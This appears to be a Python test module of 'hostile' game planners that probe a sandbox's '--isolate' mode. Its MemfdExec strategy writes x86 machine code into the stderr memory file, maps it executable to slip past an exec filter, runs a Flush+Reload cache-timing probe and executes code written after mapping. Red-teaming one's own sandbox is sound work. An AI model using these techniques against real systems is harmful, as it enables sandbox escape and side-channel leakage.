# ruff: noqa: E501  (attack code: long report lines)
"""Hostile strategies of a seventeenth independent pass on ``--isolate`` (benchmarks/hostile_pass17).

Each plays like a planner and reports on stderr (``HOSTILE <name>: ...``)."""

from __future__ import annotations

import ctypes
import os
import stat
import sys
import time

from sims.strategies.planner import Planner

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]
LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
MAP_FAILED = ctypes.c_void_p(-1).value
PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
MAP_PRIVATE = 2

# pass 9's Flush+Reload: a load timed with rdtscp (cycles returned), then clflush of the line
FR_CODE = bytes.fromhex(
    "0faef00f01f94989c04989d10faee88b070faee80f01f948c1e2204809d049c1e1204d09c84c29c00fae3fc3"
)
TOUCH_CODE = bytes.fromhex("8b07c3")  # mov eax, [rdi]; ret
CODE_AT = 1 << 20  # where the code goes in the stderr file: past the 4 KiB the run shows


def say(name: str, text: str) -> None:
    sys.stderr.write(f"HOSTILE {name}: {text}\n")
    sys.stderr.flush()


def err() -> str:
    return os.strerror(ctypes.get_errno())


def memfd_code(fd: int = 2, offset: int = CODE_AT) -> int:
    """Machine code of one's own, read+exec: the game's stderr is a memory file its host
    made (``memfd_create``, read+write, dup2'd onto 1 and 2), on the kernel's internal
    tmpfs, which no ``noexec`` covers (``vm.memfd_noexec`` 0). Write the code into it with
    ``pwrite`` and map that page ``PROT_READ|PROT_EXEC``, private: never writable, never
    anonymous, so the filter lets it through."""
    page = bytearray(4096)
    page[0 : len(FR_CODE)] = FR_CODE
    page[512 : 512 + len(TOUCH_CODE)] = TOUCH_CODE
    os.pwrite(fd, bytes(page), offset)
    addr = LIBC.mmap(None, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, offset)
    if addr in (None, MAP_FAILED):
        raise OSError(ctypes.get_errno(), err())
    return addr


def fr_pair(code: int):
    probe = ctypes.CFUNCTYPE(ctypes.c_uint64, ctypes.c_void_p)(code)
    touch = ctypes.CFUNCTYPE(ctypes.c_uint32, ctypes.c_void_p)(code + 512)
    return probe, touch


def fr_medians(probe, touch, line: int, rounds: int = 2000) -> tuple[int, int]:
    misses, hits = [], []
    for _ in range(rounds):
        probe(line)
        misses.append(probe(line))
        touch(line)
        hits.append(probe(line))
    misses.sort()
    hits.sort()
    return misses[rounds // 2], hits[rounds // 2]


class Once(Planner):
    """A planner that runs ``probe`` once, at its first decision."""

    def decide(self, view):
        if not getattr(self, "_done", False):
            self._done = True
            try:
                self.probe(view)
            except Exception as exc:  # report what was refused
                say(type(self).__name__, f"probe raised {type(exc).__name__}: {exc}")
        return super().decide(view)

    def probe(self, view) -> None:  # pragma: no cover - overridden
        raise NotImplementedError


class MemfdExec(Once):
    """Item 1: machine code of one's own, through the stderr memory file (``memfd_code``)."""

    def probe(self, view) -> None:
        name = type(self).__name__
        for fd in (0, 1, 2):
            try:
                st = os.fstat(fd)
                flags = os.get_blocking(fd), LIBC.fcntl(fd, 3)
                say(name, f"fd {fd}: mode {stat.filemode(st.st_mode)} ino {st.st_ino} size {st.st_size} fl {flags[1]:o}")
            except OSError as exc:
                say(name, f"fd {fd}: {exc}")
        try:
            code = memfd_code()
        except OSError as exc:
            say(name, f"read+exec mapping of its stderr file: refused {exc}")
            return
        probe, touch = fr_pair(code)
        buf = ctypes.create_string_buffer(4096)
        miss, hit = fr_medians(probe, touch, ctypes.addressof(buf) + 128)
        say(name, f"read+exec private mapping of its stderr memfd (fd 2): ran own code (rdtscp, clflush): median cycles after a flush {miss}, after a load {hit}")
        # the mapping is live: the file's page cache, so a later pwrite changes the code
        os.pwrite(2, b"\xb8\x2a\x00\x00\x00\xc3", CODE_AT + 1024)  # mov eax, 42; ret
        f = ctypes.CFUNCTYPE(ctypes.c_uint32)(code + 1024)
        say(name, f"code written after the mapping ran too: returned {f()}")


class Plain(Planner):
    """An honest planner in a sandbox: a control."""


def _mark(view) -> None:
    say("time", f"{time.time():.3f} seat {view.seat}")
